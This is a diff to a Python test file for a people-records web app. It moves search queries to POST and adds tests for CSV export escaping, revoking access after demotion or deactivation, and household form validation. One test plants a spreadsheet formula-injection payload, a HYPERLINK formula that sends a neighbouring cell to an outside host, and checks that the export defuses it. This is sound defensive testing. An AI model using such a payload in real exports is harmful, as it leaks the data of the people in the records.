@@ -12,22 +12,22 @@ def test_coordinator_adds_a_person_and_finds_them_by_part_of_the_name(app, clien
     detail = client.get(response.headers["Location"]).data.decode()
     assert "Graciela Montoya Fuentes" in detail and "Pablo Montoya" in detail and "Sunland Park" in detail
     for part in ("montoya", "MONTOYA F", "maestra", "Graci"):
-        page = client.get("/people/", query_string={"q": part}).data.decode()
+        page = client.post("/people/", data={"q": part}).data.decode()
         assert "La Maestra" in page, part
-    assert "La Maestra" not in client.get("/people/", query_string={"q": "Ramírez"}).data.decode()
+    assert "La Maestra" not in client.post("/people/", data={"q": "Ramírez"}).data.decode()
 
 
 def test_search_ignores_accents_and_case(client, auth, make_user, add_person):
     coordinator = make_user("coordinator")
     add_person([coordinator.id], legal_name="José Ángel Núñez", alias="Pepe")
     auth.login(coordinator)
-    assert "Pepe" in client.get("/people/?q=nunez").data.decode()
-    assert "Pepe" in client.get("/people/?q=ANGEL NU").data.decode()
+    assert "Pepe" in client.post("/people/", data={"q": "nunez"}).data.decode()
+    assert "Pepe" in client.post("/people/", data={"q": "ANGEL NU"}).data.decode()
 
 
 def test_a_search_of_fewer_than_three_letters_is_explained(client, auth, make_user):
     auth.login(make_user("coordinator"))
-    assert b"Type at least 3 letters" in client.get("/people/?q=ab").data
+    assert b"Type at least 3 letters" in client.post("/people/", data={"q": "ab"}).data
 
 
 def test_the_person_page_in_spanish(client, auth, make_user, add_person):
@@ -55,8 +55,8 @@ def test_the_legal_name_does_not_find_someone_elses_case(client, auth, make_user
     on_team, other = make_user("coordinator"), make_user("coordinator")
     add_person([on_team.id])
     auth.login(other)
-    assert "La Maestra" not in client.get("/people/?q=Montoya").data.decode()
-    assert "La Maestra" in client.get("/people/?q=Maestra").data.decode()
+    assert "La Maestra" not in client.post("/people/", data={"q": "Montoya"}).data.decode()
+    assert "La Maestra" in client.post("/people/", data={"q": "Maestra"}).data.decode()
 
 
 def test_admins_see_everything(client, auth, make_user, add_person):
@@ -151,3 +151,36 @@ def test_the_list_runs_the_same_number_of_queries_for_more_people(client, auth, 
         page = client.get("/people/").data.decode()
     assert "Alias 7" in page
     assert len(many) == len(few), "\n".join(many.statements)
+
+
+def test_exported_cells_cannot_run_as_formulas(client, auth, make_user, add_person):
+    mine = make_user("coordinator")
+    add_person([mine.id], legal_name="Formula Person", alias="=HYPERLINK(\"https://x/?\"&B2,\"open\")",
+               notes="+1 then @SUM(A1)")
+    auth.login(mine)
+    text = client.get("/people/export.csv").data.decode()
+    assert "'=HYPERLINK" in text and "'+1 then" in text
+    assert ",=HYPERLINK" not in text
+
+
+def test_a_demoted_or_deactivated_team_member_no_longer_sees_the_record(app, make_user, add_person):
+    from mexiles.accounts.models import User
+    from mexiles.people import services
+
+    member = make_user("coordinator")
+    person_id = add_person([member.id])
+    with app.app_context():
+        user, person = db.session.get(User, member.id), services.get(person_id)
+        assert services.may_see_full(user, person)
+        user.role_grants[0].role = "counselor"
+        assert not services.may_see_full(user, person)
+        user.role_grants[0].role = "coordinator"
+        user.active = False
+        assert not services.may_see_full(user, person)
+
+
+def test_a_partly_filled_household_row_is_not_dropped_silently(client, auth, make_user):
+    auth.login(make_user("coordinator", locale="es"))
+    data = dict(FULL_RECORD, **{"household-1-relationship": "sibling", "household-1-birth_year": "2001"})
+    page = client.post("/people/new", data=data).data.decode()
+    assert "Escriba el nombre" in page or "nombre de este integrante" in page
